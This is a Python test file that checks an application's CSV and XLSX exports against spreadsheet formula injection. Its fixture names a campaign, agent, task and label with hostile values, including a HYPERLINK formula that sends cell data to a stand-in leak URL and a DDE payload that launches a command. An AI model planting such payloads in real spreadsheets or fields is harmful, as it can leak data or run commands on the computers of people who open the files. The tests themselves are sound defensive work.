"""Every export, with a campaign, an agent, a task and a label named like formulas: nothing runs.

Names come from imported files and from operators, and they become cells, column headers (the
tasks table's "<campaign> · passes") and sheet titles. A CSV cell may not start like a formula
(it gets an apostrophe); an XLSX holds no formula at all, in any sheet, header or title.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from apps.exports.formulas import FORMULA_STARTS
from apps.exports.selectors import TABLES
from tests.api.conftest import api_for  # noqa: F401 (fixture)
from tests.triage.conftest import T1, T2

pytestmark = pytest.mark.django_db

CAMPAIGN = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")'
OTHER_CAMPAIGN = "+SUM(1+1)"
AGENT = "-2+3+cmd|' /C calc'!A0"
TASK = "@retail/task=1"
LABEL = "=1+1 label"


@pytest.fixture
def hostile(attempts_campaign, trish):
    from apps.suites.models import Task
    from apps.triage import services
    from apps.triage.models import Label

    rows = [(T1, i, "fail", ["wrong_value"], True) for i in range(2)] + [
        (T2, i, "pass", [], False) for i in range(2)
    ]
    a = attempts_campaign(rows, name=CAMPAIGN, n=2)
    b = attempts_campaign(rows, name=OTHER_CAMPAIGN, n=2)
    a.agent.name = AGENT
    a.agent.save(update_fields=["name"])
    Task.objects.filter(suite=a.suite, task_id=T1).update(task_id=TASK, title=TASK)
    label = Label.objects.create(name=LABEL, position=99)
    services.attempt_toggle_label(attempt=a.attempts.filter(verdict="fail").first(), label=label, actor=trish)
    return a, b


def _csv_cells(text: str) -> list[str]:
    """Every cell of a CSV export: header and rows, and each comma-split piece of the About lines."""
    about = [line for line in text.splitlines() if line.startswith("# ")]
    body = [line for line in text.splitlines() if not line.startswith("# ")]
    cells = [cell for row in csv.reader(body) for cell in row]
    cells += [piece.lstrip() for line in about for piece in line.split(",")[1:]]
    return cells


def _assert_csv_inert(text: str, where: str) -> None:
    live = [cell for cell in _csv_cells(text) if cell.startswith(FORMULA_STARTS)]
    assert live == [], where


def _assert_xlsx_inert(content: bytes, where: str) -> None:
    book = load_workbook(io.BytesIO(content))
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == [], where
    assert [title for title in book.sheetnames if title.startswith(FORMULA_STARTS)] == [], where
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/"))
    assert b"<f>" not in xml and b"<f " not in xml, where


def _texts(content: bytes) -> str:
    return content.decode("utf-8", errors="replace")


@pytest.mark.parametrize("name", TABLES)
def test_every_table_export_keeps_hostile_names_inert(client, alice, hostile, name):
    a, b = hostile
    query = f"a={a.pk}&b={b.pk}&c={a.pk}&c={b.pk}&campaign={a.pk}&base={a.pk}&trained={b.pk}"
    client.force_login(alice)

    as_csv = client.get(f"/exports/tables/{name}.csv?{query}")
    as_xlsx = client.get(f"/exports/tables/{name}.xlsx?{query}")

    assert (as_csv.status_code, as_xlsx.status_code) == (200, 200)
    _assert_csv_inert(_texts(as_csv.content), f"{name}.csv")
    _assert_xlsx_inert(as_xlsx.content, f"{name}.xlsx")


def test_tasks_table_headers_name_the_hostile_campaign_as_text(client, alice, hostile):
    a, b = hostile
    client.force_login(alice)

    text = _texts(client.get(f"/exports/tables/tasks.csv?a={a.pk}&b={b.pk}").content)
    book = load_workbook(io.BytesIO(client.get(f"/exports/tables/tasks.xlsx?a={a.pk}&b={b.pk}").content))

    header = next(csv.reader(line for line in text.splitlines() if not line.startswith("# ")))
    assert f"'{CAMPAIGN} · passes" in header
    sheet = book.worksheets[0]
    titles = {cell.value: cell.data_type for cell in sheet[1]}
    assert titles[f"{CAMPAIGN} · passes"] == "s"


def test_procurement_and_attempt_exports_keep_hostile_names_inert(client, alice, hostile):
    a, b = hostile
    client.force_login(alice)

    workbook = client.get(f"/exports/procurement/?c={a.pk}&c={b.pk}&download=1")
    attempts = client.get(f"/exports/attempts.csv?c={a.pk}&c={b.pk}&result=1")

    assert (workbook.status_code, attempts.status_code) == (200, 200)
    _assert_xlsx_inert(workbook.content, "procurement")
    text = "".join(
        piece.decode() if isinstance(piece, bytes) else piece for piece in attempts.streaming_content
    )
    _assert_csv_inert(text, "attempts.csv")
    assert f"'{TASK}" in text


def test_api_exports_keep_hostile_names_inert(api_for, alice, hostile):
    a, b = hostile
    api = api_for(alice)

    tasks_csv = api.get(f"/api/exports/tables/tasks/?file=csv&a={a.pk}&b={b.pk}")
    tasks_xlsx = api.get(f"/api/exports/tables/tasks/?file=xlsx&a={a.pk}&b={b.pk}")

    assert (tasks_csv.status_code, tasks_xlsx.status_code) == (200, 200)
    _assert_csv_inert(_texts(tasks_csv.content), "api tasks.csv")
    _assert_xlsx_inert(tasks_xlsx.content, "api tasks.xlsx")
